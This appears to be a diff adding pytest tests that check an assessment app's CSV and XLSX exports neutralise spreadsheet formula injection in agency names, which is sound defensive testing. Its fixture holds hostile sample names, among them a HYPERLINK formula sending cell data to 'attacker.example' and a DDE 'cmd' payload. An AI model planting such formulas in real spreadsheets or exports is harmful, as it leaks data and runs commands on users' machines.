@@ -9,6 +9,7 @@ from collections.abc import Callable
 
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
 from assessment.domain.model.answers import Answer
@@ -136,3 +137,66 @@ def test_results_frames_of_an_empty_round_and_of_one_agency(
     everything = queries.round_results_frame(session, round_with_three_agencies.id)
     agency_id = int(everything["agency_id"].iloc[0])
     pd.testing.assert_frame_equal(queries.agency_results_frame(session, agency_id), everything)
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://attacker.example/?"&B2,"Open")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "#DIV/0!",
+)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formula_round(
+    session: Session, create_agency: Callable[..., Agency], create_round: Callable[..., Round]
+) -> Round:
+    """Agencies whose names would be live formulas in a spreadsheet, each with a draft."""
+    round_ = create_round("2026")
+    for name in FORMULA_NAMES:
+        agency = create_agency(name=name)
+        assessments.start_assessment(session, agency_id=agency.id, round_id=round_.id, actor=None)
+    return round_
+
+
+def test_export_csv_neutralises_formula_cells(session: Session, formula_round: Round) -> None:
+    stream = io.StringIO()
+    export.write_csv(export.round_export(session, formula_round.id), stream)
+
+    cells = [cell for row in csv.reader(io.StringIO(stream.getvalue())) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    names = [row["agency"] for row in csv.DictReader(io.StringIO(stream.getvalue()))]
+    assert sorted(names) == sorted(
+        f"'{name}" if name.startswith(FORMULA_START) else name for name in FORMULA_NAMES
+    )
+
+
+def test_export_xlsx_has_text_cells_only_where_formulas_were_typed(
+    session: Session, formula_round: Round
+) -> None:
+    table = export.round_export(session, formula_round.id)
+    sheet = load_workbook(io.BytesIO(export.xlsx_bytes(table))).active
+    assert sheet is not None
+
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
+    assert not [cell for cell in cells if str(cell.value).startswith(FORMULA_START)]
+    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    assert sorted(names) == sorted(
+        f"'{name}" if name.startswith(FORMULA_START) else name for name in FORMULA_NAMES
+    )
+
+
+def test_export_xlsx_keeps_a_name_with_control_characters(
+    session: Session, create_agency: Callable[..., Agency], create_round: Callable[..., Round]
+) -> None:
+    round_ = create_round("2026")
+    agency = create_agency(name="Bell\x07 Police")
+    assessments.start_assessment(session, agency_id=agency.id, round_id=round_.id, actor=None)
+
+    sheet = load_workbook(io.BytesIO(export.xlsx_bytes(export.round_export(session, round_.id))))
+    assert sheet.active is not None
+
+    assert sheet.active["A2"].value == "Bell\ufffd Police"
